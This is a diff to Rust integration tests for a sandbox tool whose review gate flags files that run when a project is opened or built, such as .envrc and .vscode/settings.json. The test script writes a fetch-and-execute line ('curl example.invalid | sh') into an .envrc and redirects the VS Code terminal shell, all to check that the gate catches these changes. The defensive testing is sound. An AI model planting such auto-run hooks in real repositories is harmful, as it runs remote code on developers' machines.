@@ -192,21 +192,21 @@ try status sh -c 'test -z \"$(git status --porcelain -- .claude .github/workflow
 fn a_branch_changing_what_runs_when_the_project_is_opened_is_flagged_and_merged_only_when_named() {
     let (env, repo, id) = setup(&[(".vscode/settings.json", "{}\n")]);
     env.write_profile("[filesystem]\nallow_write = [\".vscode/\"]\n");
-    // .envrc did not exist when the run started: no mount covers it (until names are
-    // refused at creation time), and the gate is what stops it.
+    // A `.envrc` below the tree's root is no file the sandbox refuses making (only the
+    // root's are: tests/it/fsevents.rs); the gate flags the list's names at any depth.
     attempts(
         &env,
         &id,
         r#"
 echo '{"terminal.integrated.shell.linux": "/tmp/x"}' > .vscode/settings.json
-echo 'curl example.invalid | sh' > .envrc
+mkdir web && echo 'curl example.invalid | sh' > web/.envrc
 echo ok > notes.txt
 git add -A && git commit -q -m tweak
 "#,
     );
     let review = env.run(["review", &id]).ok();
     review
-        .stdout_has("policy   .envrc  runs when the project is opened or built, added")
+        .stdout_has("policy   web/.envrc  runs when the project is opened or built, added")
         .stdout_has(
             "policy   .vscode/settings.json  runs when the project is opened or built, changed",
         );
@@ -220,19 +220,19 @@ git add -A && git commit -q -m tweak
         .fails(1)
         .stderr_has("not accepted")
         .stderr_has(&format!(
-            "git loop merge {id} --accept-policy .envrc --accept-policy .vscode/settings.json"
+            "git loop merge {id} --accept-policy .vscode/settings.json --accept-policy web/.envrc"
         ));
     assert_eq!(env.rev(&repo, "main"), main_before);
     env.run([
         "merge",
         &id,
         "--accept-policy",
-        ".envrc",
+        "web/.envrc",
         "--accept-policy",
         ".vscode/settings.json",
     ])
     .ok();
-    assert!(repo.join(".envrc").exists());
+    assert!(repo.join("web/.envrc").exists());
 }
 
 /// sandbox-runtime's `denyWrite`/`denyRead` inside an allowed root, its mandatory deny
@@ -314,9 +314,9 @@ try envrc-new sh -c 'echo x > .envrc'
             ("rename-parent", false),
             // A folder of the list that is not there: an empty read-only one stands in.
             ("vscode-new", false),
-            // A file of the list that is not there can be made (no creation-time
-            // denial yet): the gate stops it on the way out (see the test above).
-            ("envrc-new", true),
+            // A file of the list that is not there is refused when made there
+            // (tests/it/fsevents.rs has every way of making it).
+            ("envrc-new", false),
         ],
     );
     let work = env.workdir(&id);
